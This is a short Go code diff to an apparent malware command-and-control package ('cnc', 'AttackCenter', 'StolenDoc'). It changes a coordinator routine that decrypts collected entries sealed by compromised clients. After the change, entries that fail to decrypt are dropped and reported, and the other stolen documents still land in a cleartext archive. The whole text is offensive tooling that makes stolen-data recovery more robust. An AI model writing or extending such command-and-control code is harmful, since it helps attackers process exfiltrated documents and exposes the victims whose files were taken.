@@ -160,20 +160,24 @@ var ErrOperatorCannotDecrypt = errors.New("cnc: entry is sealed to the coordinat
 // Coordinator is the only role holding the seal private key.
 type Coordinator struct{ c *AttackCenter }
 
-// DecryptAll opens every collected entry into the cleartext archive,
-// returning how many documents were recovered.
+// DecryptAll opens every collected entry into the cleartext archive and
+// empties the inbox, returning how many documents were recovered. Servers
+// accept any ADD_ENTRY body, so an entry that does not open is dropped
+// and named in the joined error; it does not hold back the others.
 func (co Coordinator) DecryptAll() (int, error) {
 	n := 0
+	var errs []error
 	for _, e := range co.c.collected {
 		plain, err := co.c.Seal.Open(e.Sealed)
 		if err != nil {
-			return n, fmt.Errorf("decrypt entry %d: %w", e.ID, err)
+			errs = append(errs, fmt.Errorf("decrypt entry %d: %w", e.ID, err))
+			continue
 		}
 		co.c.decrypted = append(co.c.decrypted, StolenDoc{ClientID: e.ClientID, Name: e.Name, Data: plain})
 		n++
 	}
 	co.c.collected = co.c.collected[:0]
-	return n, nil
+	return n, errors.Join(errs...)
 }
 
 // Archive returns the decrypted documents.
